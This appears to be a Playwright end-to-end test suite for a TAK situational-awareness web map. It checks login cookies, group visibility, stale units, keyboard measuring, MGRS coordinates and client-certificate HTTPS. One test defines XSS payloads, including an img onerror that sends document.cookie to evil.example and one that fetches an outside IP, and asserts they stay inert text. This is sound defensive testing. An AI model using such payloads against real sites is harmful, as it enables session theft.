"""The picture at ``/`` in a real Chromium (software WebGL) against a real server and real CoT clients.

Logging in, a unit that appears and moves, a stale unit greyed then dropped, groups filtering what a
login sees, cursor MGRS and the measure tool by keyboard, and script payloads from a TAK client that
must stay text. Waits are on the page's own state (``window.rallypoint``) with Playwright's deadlines.
Screenshots go to ``test-results/web/``.

The page runs under its strict Content-Security-Policy, so every predicate handed to Playwright is a
function (an expression string would need ``eval``, which the policy forbids).
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import httpx
import pytest
from playwright.sync_api import ConsoleMessage, Page, Request, expect
from pyproj import Proj

from tests.support.accounts import run_cli
from tests.support.certs import bundle_context, client_bundle
from tests.support.cot_client import chat, cot, sa
from tests.support.server import ServerProcess

RESULTS = Path("test-results/web")
PASSWORD = "viewer passphrase 1"


def _shot(page: Page, name: str) -> None:
    RESULTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(RESULTS / f"web-{name}.png"))


@pytest.fixture
def picture_server(data_dir: Path) -> Iterator[ServerProcess]:
    """carol has no groups (so she reads ``__ANON__``, where plain TCP clients report); alice is in A."""
    run_cli(data_dir, "user", "add", "carol", "--password-stdin", stdin=PASSWORD + "\n")
    run_cli(data_dir, "user", "add", "alice", "--group", "A", "--password-stdin", stdin=PASSWORD + "\n")
    with ServerProcess(data_dir) as proc:
        yield proc


def _open(page: Page, server: ServerProcess, query: str = "") -> str:
    base = f"http://127.0.0.1:{server.ports['http']}"
    page.goto(f"{base}/{query}")
    return base


def _log_in(page: Page, user: str) -> None:
    page.fill("#user", user)
    page.fill("#password", PASSWORD)
    page.click("#login button[type=submit]")
    expect(page.locator("#status")).to_have_text("live")


def _position(page: Page, uid: str) -> list[float] | None:
    return page.evaluate("(uid) => rallypoint.picture.units.get(uid)?.feature.geometry?.coordinates ?? null", uid)


def _wait_shape(page: Page, uid: str) -> None:
    """Until the map's drawings source holds ``uid`` (and the units source does not: no second symbol)."""
    page.wait_for_function(
        """(uid) => {
             const m = rallypoint.view.map;
             return m.querySourceFeatures('shapes').some((f) => f.properties.id === uid)
                    && !m.querySourceFeatures('units').some((f) => f.properties.id === uid);
           }""",
        arg=uid,
    )


def _wait_drawn(page: Page, uid: str, *, stale: bool = False) -> None:
    """Until the map's unit source holds ``uid`` (in the given stale state) and its symbol is drawn."""
    page.wait_for_function(
        """([uid, stale]) => {
             const m = rallypoint.view.map;
             return m.querySourceFeatures('units').some((f) => f.properties.id === uid && f.properties.stale === stale
                                                              && m.hasImage(f.properties.icon));
           }""",
        arg=[uid, stale],
    )


def test_a_login_shows_a_unit_that_moves_and_its_trail(picture_server: ServerProcess, webgl_page: Page) -> None:
    page = webgl_page
    _open(page, picture_server)
    _log_in(page, "carol")
    cookies = {c["name"]: c for c in page.context.cookies()}
    assert cookies["access_token"]["httpOnly"] and cookies["access_token"]["sameSite"] == "Strict"
    assert page.evaluate("() => document.cookie") == ""  # the page's scripts never see the token
    with socket.create_connection(("127.0.0.1", picture_server.ports["cot"]), timeout=10) as tak:
        tak.sendall(sa("unit-1", "ALPHA", lat=39.10, lon=-120.00))
        page.wait_for_function("() => rallypoint.picture.units.has('unit-1')")
        _wait_drawn(page, "unit-1")
        tak.sendall(sa("unit-1", "ALPHA", lat=39.11, lon=-120.01))
        page.wait_for_function("() => rallypoint.picture.units.get('unit-1')?.trail.length === 2")
        assert _position(page, "unit-1")[:2] == [-120.01, 39.11]  # type: ignore[index]
        page.evaluate("() => rallypoint.select('unit-1')")
        expect(page.locator("#sel-callsign")).to_have_text("ALPHA")
        expect(page.locator("#sel-latlon")).to_have_text("39.11000, -120.01000")
        expect(page.locator("#sel-mgrs")).to_have_text(_mgrs(39.11, -120.01))
        _shot(page, "unit")
    # A reload keeps the session (the cookie) and reconnects at once.
    page.reload()
    expect(page.locator("#status")).to_have_text("live")
    page.click("#logout")
    expect(page.locator("#status")).to_have_text("not connected")


def _mgrs(lat: float, lon: float) -> str:
    """The MGRS digits from an independent UTM projection (pyproj); the letters for this place, known."""
    easting, northing = Proj(proj="utm", zone=10, ellps="WGS84")(lon, lat)
    return f"10S GJ {int(easting) % 100_000:05d} {int(northing) % 100_000:05d}"


def test_a_login_sees_only_its_groups(picture_server: ServerProcess, webgl_page: Page) -> None:
    page = webgl_page
    _open(page, picture_server)
    _log_in(page, "alice")  # group A: the anonymous TCP client's unit is not hers to see
    with socket.create_connection(("127.0.0.1", picture_server.ports["cot"]), timeout=10) as tak:
        tak.sendall(sa("anon-unit", "HIDDEN", lat=39.1, lon=-120.0))
        # carol, in another context, sees it: so it did reach the server's picture.
        other = page.context.browser.new_context()  # type: ignore[union-attr]
        try:
            carol = other.new_page()
            _open(carol, picture_server)
            _log_in(carol, "carol")
            carol.wait_for_function("() => rallypoint.picture.units.has('anon-unit')")
        finally:
            other.close()
        assert page.evaluate("() => rallypoint.picture.units.size") == 0


def test_a_stale_unit_is_greyed_then_dropped(server: ServerProcess, webgl_page: Page) -> None:
    page = webgl_page
    _open(page, server, "?drop_s=3")
    page.click("#direct")  # the anonymous picture of the loopback HTTP port
    expect(page.locator("#status")).to_have_text("live")
    with socket.create_connection(("127.0.0.1", server.ports["cot"]), timeout=10) as tak:
        tak.sendall(sa("short-lived", "BRIEF", lat=39.1, lon=-120.0, stale_s=3))
        # Arrived live (its stale time ahead of its report); then drawn grey once that time has passed.
        page.wait_for_function("""() => { const p = rallypoint.picture.units.get('short-lived')?.feature.properties;
                                           return p !== undefined && p.stale_ms > p.time_ms; }""")
        _wait_drawn(page, "short-lived", stale=True)
        _shot(page, "stale")
        page.wait_for_function("() => !rallypoint.picture.units.has('short-lived')")


def test_measure_and_cursor_by_keyboard(server: ServerProcess, webgl_page: Page) -> None:
    page = webgl_page
    _open(page, server)
    page.wait_for_function("() => rallypoint.view.map.loaded()")
    # Focus order: the login fields, the buttons, then the tools and the map.
    page.focus("#measure")
    page.keyboard.press("Enter")
    expect(page.locator("#measure")).to_have_attribute("aria-pressed", "true")
    page.focus("#map .maplibregl-canvas")
    page.keyboard.press("Enter")
    for _ in range(4):
        page.keyboard.press("ArrowRight")
    page.wait_for_function("() => !rallypoint.view.map.isMoving()")
    page.keyboard.press("Enter")
    expect(page.locator("#measured")).to_have_text(__import__("re").compile(r"^\d+(\.\d+)? k?m, \d{3}°$"))
    page.mouse.move(300, 400)
    expect(page.locator("#cursor")).to_contain_text(",")
    text = page.evaluate("""async () => {
        const m = await import('/web/app/measure.js');
        return m.measureText([0, 0], [0, 1]) + ' / ' + m.measureText([0, 0], [1, 0]);
    }""")
    assert text == "111.20 km, 000° / 111.20 km, 090°"
    sidcs = page.evaluate("""async (types) => {
        const s = await import('/web/app/symbols.js');
        return types.map((t) => s.sidcOf(t));
    }""", ["a-f-G-U-C-I", "a-h-A-M-F-F", "a-n-S", "a-u-G", "a-f-G-E-V-A-T-H-X", "b-m-p-s-m", "a-f-Z", "a-f"])
    assert sidcs == ["SFGPUCI--------", "SHAPMFF--------", "SNSP-----------", "SUGP-----------",
                     "SFGPEVATHX-----", None, None, None]
    _shot(page, "measure")


XSS = '<img src=x onerror="window.__xss=1;fetch(\'http://evil.example/\'+document.cookie)">'
SCRIPT = "<script>window.__xss=2</script>"
# A payload that, if it ran, would ask another origin for something (counted by the request watch).
FAR_AWAY_TEXT = '<img src=x onerror="fetch(\'http://203.0.113.1/xss\')">'
FAR_AWAY = FAR_AWAY_TEXT.replace("<", "&lt;").replace('"', "&quot;")
# -120° is the first meridian of UTM zone 11 (the digits as pyproj's UTM zone 11 gives them).
MGRS_39_1_120 = "11S KD 40566 32159"


def test_script_payloads_from_a_tak_client_stay_text(server: ServerProcess, webgl_page: Page) -> None:
    page = webgl_page
    dialogs: list[str] = []
    outside: list[str] = []
    errors: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

    def watch(request: Request) -> None:
        if urlparse(request.url).hostname not in ("127.0.0.1", None) and not request.url.startswith("data:"):
            outside.append(request.url)

    def console(message: ConsoleMessage) -> None:
        if message.type == "error":
            errors.append(message.text)

    page.on("request", watch)
    page.on("console", console)
    page.on("pageerror", lambda e: errors.append(str(e)))
    _open(page, server)
    page.evaluate("""() => document.addEventListener('securitypolicyviolation',
                                                     (e) => (window.__violations ||= []).push(e.violatedDirective))""")
    page.click("#direct")
    expect(page.locator("#status")).to_have_text("live")
    escaped = XSS.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    script = SCRIPT.replace("<", "&lt;")
    with socket.create_connection(("127.0.0.1", server.ports["cot"]), timeout=10) as tak:
        tak.sendall(sa("xss-1", XSS.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;"),
                       extra=f"<remarks>{escaped}{script}</remarks>", lat=39.1, lon=-120.0))
        tak.sendall(chat("xss-1", escaped, to_uid=None, to_cs=None, text=escaped + script + FAR_AWAY))
        tak.sendall(cot("xss-item", "b-m-p-s-m", detail=f'<contact callsign="{script}"/><remarks>{escaped}</remarks>',
                        lat=39.2, lon=-120.1))
        # An alert whose callsign and kind are payloads: the banner shows them as text.
        tak.sendall(cot("xss-1-9-1-1", "b-a-o-tbl", how="h-e", lat=39.1, lon=-120.0,
                        detail=f'<link uid="xss-1" type="a-f-G-U-C" relation="p-p"/><contact callsign="{escaped}"/>'
                               f'<emergency type="{escaped}">{script}</emergency><remarks>{FAR_AWAY}</remarks>'))
        _wait_drawn(page, "xss-1")
        _wait_shape(page, "xss-item")
        page.evaluate("() => rallypoint.select('xss-1')")
        expect(page.locator("#sel-callsign")).to_have_text(XSS)
        expect(page.locator("#sel-remarks")).to_be_hidden()  # a unit's remarks are not in the live feed
        # A drawing's name and remarks in the selection, as text.
        page.evaluate("() => rallypoint.select('xss-item')")
        expect(page.locator("#sel-callsign")).to_have_text(SCRIPT)
        expect(page.locator("#sel-remarks")).to_have_text(XSS)
        page.evaluate("() => rallypoint.select('xss-1')")
        expect(page.locator("#emergency-text")).to_have_text(f"{XSS}: {XSS} at 39.10000, -120.00000 ({MGRS_39_1_120})")
        # The contacts and chat panels show the callsign and the chat text, as text.
        page.click("#panel-contacts summary")
        expect(page.locator("#panel-contacts .contact-callsign")).to_have_text([XSS])
        page.click("#panel-chat summary")
        expect(page.locator("#chat-history .chat-sender")).to_have_text([XSS])
        expect(page.locator("#chat-history .chat-text")).to_have_text([XSS + SCRIPT + FAR_AWAY_TEXT])
        _shot(page, "xss")
    assert page.evaluate("() => window.__xss") is None
    assert page.evaluate("() => document.querySelectorAll('img[src=x], script:not([src])').length") == 0
    assert page.evaluate("() => window.__violations ?? []") == []
    assert dialogs == [] and outside == [], (dialogs, outside)
    assert errors == [], errors


def test_https_with_a_client_certificate_and_a_secure_cookie(
    picture_server: ServerProcess, webgl_page: Page, tmp_path: Path
) -> None:
    bundle = client_bundle(picture_server, "carol", tmp_path)
    base = f"https://127.0.0.1:{picture_server.ports['api']}"
    # A password login over HTTPS: the cookie is Secure too.
    with httpx.Client(verify=bundle_context(bundle), timeout=10) as http:
        answer = http.post(f"{base}/api/web/login", headers={"Origin": base},
                           data={"grant_type": "password", "username": "carol", "password": PASSWORD})
        assert answer.status_code == 200, answer.text
        assert "Secure" in answer.headers["set-cookie"] and "HttpOnly" in answer.headers["set-cookie"]
    # The page in Chromium with carol's certificate: no password, her groups' picture.
    context = webgl_page.context.browser.new_context(  # type: ignore[union-attr]
        viewport={"width": 1024, "height": 768}, ignore_https_errors=True,
        client_certificates=[{"origin": base, "certPath": str(bundle.cert), "keyPath": str(bundle.key)}],
    )
    try:
        page = context.new_page()
        page.goto(f"{base}/")
        page.click("#direct")
        expect(page.locator("#status")).to_have_text("live")
        with socket.create_connection(("127.0.0.1", picture_server.ports["cot"]), timeout=10) as tak:
            tak.sendall(sa("tls-seen", "BRAVO", lat=39.1, lon=-120.0))
            _wait_drawn(page, "tls-seen")
        _shot(page, "https")
    finally:
        context.close()
